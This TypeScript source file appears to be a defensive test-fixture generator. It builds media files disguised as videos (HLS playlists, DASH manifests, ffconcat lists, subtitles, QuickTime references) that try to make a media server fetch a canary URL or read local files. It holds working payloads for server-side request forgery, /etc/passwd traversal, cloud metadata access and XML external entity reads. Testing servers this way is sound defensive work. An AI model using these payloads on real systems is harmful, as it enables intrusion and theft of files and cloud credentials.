import { makeBox as box, boxesOf, rewriteBox, words as uint32 } from './boxes'

/** What a hostile file tries to make the server read. */
export type Canary = { url: string; textFile: string; videoFile: string }

type Reference = { what: string; name: string; bytes: string | Buffer }

const playlist = (...lines: string[]) => `#EXTM3U\n#EXT-X-VERSION:7\n#EXT-X-TARGETDURATION:9\n${lines.join('\n')}\n`
const segments = (...addresses: string[]) =>
  playlist(...addresses.flatMap((address) => ['#EXTINF:9,', address]), '#EXT-X-ENDLIST')
const manifest = (base: string, entity = '') =>
  `<?xml version="1.0"?>${entity}<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT9S" profiles="urn:mpeg:dash:profile:isoff-on-demand:2011"><Period><AdaptationSet mimeType="video/mp4"><Representation id="1" bandwidth="1" codecs="avc1.42c00d"><BaseURL>${base}</BaseURL></Representation></AdaptationSet></Period></MPD>`
const base64 = (text: string) => Buffer.from(text).toString('base64')

/** Playlists, scripts and descriptions that name another address or file, under names of videos. */
export function scriptReferences({ url, textFile, videoFile }: Canary): Reference[] {
  const inner = segments(`${url}/data.ts`)
  const hls: [string, string][] = [
    ['an HTTP segment', segments(`${url}/s.ts`)],
    ['a segment at a file address', segments(`file://${textFile}`)],
    ['a segment at a path', segments(videoFile)],
    ['a segment above its folder', segments('../../../../../../../../etc/passwd')],
    ['a segment of the metadata service', segments('http://169.254.169.254/latest/meta-data/')],
    ['segments joined by concat:', segments(`concat:${url}/a.ts|file://${textFile}`)],
    ['a segment by data:', segments(`data:application/x-mpegurl;base64,${base64(inner)}`)],
    ['a segment by crypto:', segments(`crypto:${url}/s.ts`)],
    ['a segment by crypto+file', segments(`crypto+file://${textFile}`)],
    ['a segment by subfile:', segments(`subfile,,start,0,end,64,,:${textFile}`)],
    ['a segment by cache:', segments(`cache:${url}/s.ts`)],
    ['a segment by async:', segments(`async:${url}/s.ts`)],
    ['a segment by tcp:', segments(url.replace('http:', 'tcp:'))],
    ['a segment by ftp:', segments(url.replace('http:', 'ftp:'))],
    ['a segment by gopher:', segments(`${url.replace('http:', 'gopher:')}/_GET%20/`)],
    ['a segment by rtmp:', segments(`${url.replace('http:', 'rtmp:')}/live/s`)],
    ['a key at an HTTP address', playlist(`#EXT-X-KEY:METHOD=AES-128,URI="${url}/key"`, '#EXTINF:9,', videoFile)],
    ['a key in a file', playlist(`#EXT-X-KEY:METHOD=AES-128,URI="${textFile}"`, '#EXTINF:9,', `${url}/s.ts`)],
    ['a header section at an HTTP address', playlist(`#EXT-X-MAP:URI="${url}/init"`, '#EXTINF:9,', `${url}/s.m4s`)],
    ['a header section in a file', playlist(`#EXT-X-MAP:URI="${textFile}"`, '#EXTINF:9,', `${url}/s.m4s`)],
    ['another playlist', playlist('#EXT-X-STREAM-INF:BANDWIDTH=1', `${url}/list.m3u8`)],
    ['another sound', playlist(`#EXT-X-MEDIA:TYPE=AUDIO,GROUP-ID="a",NAME="a",URI="${url}/a.m3u8"`, '#EXTINF:9,', 'a')],
    ['ranges of a file', playlist('#EXTINF:9,', '#EXT-X-BYTERANGE:64@0', `file://${textFile}`, '#EXT-X-ENDLIST')],
    ['a byte order mark before it', `\ufeff${segments(`${url}/s.ts`)}`],
    ['the mark of an MP4 before it', `\0\0\0\u0018ftypisom\0\0\0\0isommp42${segments(`${url}/s.ts`)}`],
  ]
  const lists: [string, string][] = [
    ['ffconcat with a file', `ffconcat version 1.0\nfile '${videoFile}'\n`],
    ['ffconcat with an address', `ffconcat version 1.0\nfile '${url}/v.mp4'\n`],
    [
      'ffconcat with options',
      `ffconcat version 1.0\nfile '${url}/v.mp4'\noption safe 0\noption protocol_whitelist all\n`,
    ],
    ['a concat list without its mark', `file '${videoFile}'\nfile '${url}/v.mp4'\n`],
    ['a DASH manifest with an address', manifest(`${url}/v.mp4`)],
    ['a DASH manifest with a file', manifest(`file://${videoFile}`)],
    [
      'a DASH manifest with an external entity',
      manifest('&leak;', `<!DOCTYPE MPD [<!ENTITY leak SYSTEM "file://${textFile}">]>`),
    ],
    ['a DASH manifest with an external DTD', manifest('v.mp4', `<!DOCTYPE MPD SYSTEM "${url}/evil.dtd">`)],
    [
      'SDP',
      `v=0\no=- 0 0 IN IP4 127.0.0.1\ns=x\nc=IN IP4 127.0.0.1\nt=0 0\nm=video ${new URL(url).port} RTP/AVP 96\na=rtpmap:96 H264/90000\n`,
    ],
    ['SMIL with an address', `<smil><body><seq><video src="${url}/v.mp4"/></seq></body></smil>`],
    ['SMIL with a file', `<smil><body><seq><video src="file://${videoFile}"/></seq></body></smil>`],
    ['ASX', `<asx version="3.0"><entry><ref href="${url}/v.asf"/></entry></asx>`],
    ['an ASF reference', `[Reference]\r\nRef1=${url}/v.asf?MSWMExt=.asf\r\n`],
    [
      'XSPF',
      `<playlist version="1" xmlns="http://xspf.org/ns/0/"><trackList><track><location>${url}/v</location></track></trackList></playlist>`,
    ],
    ['PLS', `[playlist]\nFile1=${url}/v.mp4\nNumberOfEntries=1\nVersion=2\n`],
    ['an RTSP text', `RTSPtext\r\n${url.replace('http:', 'rtsp:')}/v\r\n`],
    [
      'a QuickTime media link',
      `<?xml version="1.0"?><?quicktime type="application/x-quicktime-media-link"?><embed src="${url}/v.mov"/>`,
    ],
    ['SVG with an address', `<svg xmlns="http://www.w3.org/2000/svg"><image href="${url}/p.png"/></svg>`],
    ['SVG with a file', `<svg xmlns="http://www.w3.org/2000/svg"><image href="file://${textFile}"/></svg>`],
    ['HTML', `<html><meta http-equiv="refresh" content="0;url=${url}/"><video src="${url}/v.mp4"></video></html>`],
    ['an AviSynth script', `FFVideoSource("${videoFile}")\n`],
    ['a VapourSynth script', `import vapoursynth as vs\nvs.core.ffms2.Source("${videoFile}").set_output()\n`],
    ['a filter graph', `movie=${videoFile}[out]`],
    [
      'a composition of IMF',
      `<CompositionPlaylist xmlns="http://www.smpte-ra.org/schemas/2067-3/2016"><Id>urn:uuid:1</Id><AssetMap>${url}/ASSETMAP.xml</AssetMap></CompositionPlaylist>`,
    ],
    ['VobSub subtitles', `# VobSub index file, v7\nid: en, index: 0\ntimestamp: 00:00:01:000, filepos: 000000000\n`],
    ['WebVTT with an include', `WEBVTT\n\nSTYLE\n@import url(${url}/s.css);\n\n00:00.000 --> 00:09.000\n<c>x</c>\n`],
    [
      'ASS with a font to fetch',
      `[Script Info]\nScriptType: v4.00+\n[Fonts]\nfontname: ${url}/f.ttf\n[Events]\nDialogue: 0,0:00:00.00,0:00:09.00,D,,0,0,0,,{\\fn${url}}x\n`,
    ],
    ['SubRip with a picture', `1\n00:00:00,000 --> 00:00:09,000\n<img src="${url}/p.png">\n`],
    ['metadata of ffmpeg', `;FFMETADATA1\ntitle=${url}\n[STREAM]\nfile=${videoFile}\n`],
  ]
  const picture = Buffer.concat([Buffer.from('\0-->\0\u0003\0', 'latin1'), Buffer.from(`${url}/cover.png`)])
  const frame = Buffer.concat([Buffer.from('APIC'), uint32(picture.length), Buffer.alloc(2), picture])
  const size = frame.length
  const tag = Buffer.concat([Buffer.from('ID3\u0003\0\0', 'latin1'), Buffer.from([0, 0, size >> 7, size & 127]), frame])
  return [
    ...hls.map(([what, bytes], at) => ({ what: `HLS: ${what}`, name: `hls-${at}.${at % 2 ? 'mov' : 'mp4'}`, bytes })),
    ...lists.map(([what, bytes], at) => ({ what, name: `list-${at}.${at % 2 ? 'mkv' : 'mp4'}`, bytes })),
    { what: 'an ID3 picture elsewhere', name: 'cover.mp4', bytes: Buffer.concat([tag, Buffer.alloc(4096)]) },
  ]
}

/** QuickTime files whose pictures are said to be elsewhere: their own bytes hold an index and nothing more. */
export function movieReferences(movie: Buffer, { url, videoFile }: Canary): Reference[] {
  const withoutData = Buffer.concat(boxesOf(movie).flatMap(({ type, bytes }) => (type === 'mdat' ? [] : [bytes])))
  const elsewhere = (kind: string, data: Buffer) => {
    const entry = Buffer.concat([uint32(12 + data.length), Buffer.from(kind), Buffer.alloc(4), data])
    return rewriteBox(withoutData, 'dref', () => Buffer.concat([Buffer.alloc(4), uint32(1), entry]))
  }
  const reference = Buffer.concat([
    Buffer.alloc(4),
    Buffer.from('url '),
    uint32(url.length + 3),
    Buffer.from(`${url}/v\0`),
  ])
  const moved = box('moov', box('rmra', box('rmda', box('rdrf', reference))))
  return [
    {
      what: 'a data reference to an address',
      name: 'dref-url.mov',
      bytes: elsewhere('url ', Buffer.from(`${url}/v.mov\0`)),
    },
    {
      what: 'a data reference to a file',
      name: 'dref-file.mov',
      bytes: elsewhere('url ', Buffer.from(`file://${videoFile}\0`)),
    },
    {
      what: 'a data reference by name',
      name: 'dref-urn.mov',
      bytes: elsewhere('urn ', Buffer.from(`urn:x\0${url}/v\0`)),
    },
    { what: 'an alias of a file', name: 'dref-alis.mov', bytes: elsewhere('alis', aliasOf(videoFile)) },
    {
      what: 'a reference movie',
      name: 'rmra.mov',
      bytes: Buffer.concat([box('ftyp', Buffer.from('qt  \0\0\0\0qt  ')), moved]),
    },
  ]
}

/** An alias record of QuickTime with an absolute path, as libavformat reads it. */
function aliasOf(path: string): Buffer {
  const head = Buffer.alloc(150)
  head.writeUInt16BE(2, 6)
  const name = Buffer.from(path)
  const entry = Buffer.alloc(4)
  entry.writeInt16BE(2, 0)
  entry.writeUInt16BE(name.length, 2)
  const end = Buffer.from([0xff, 0xff, 0, 0])
  return Buffer.concat([head, entry, name, Buffer.alloc(name.length % 2), end])
}
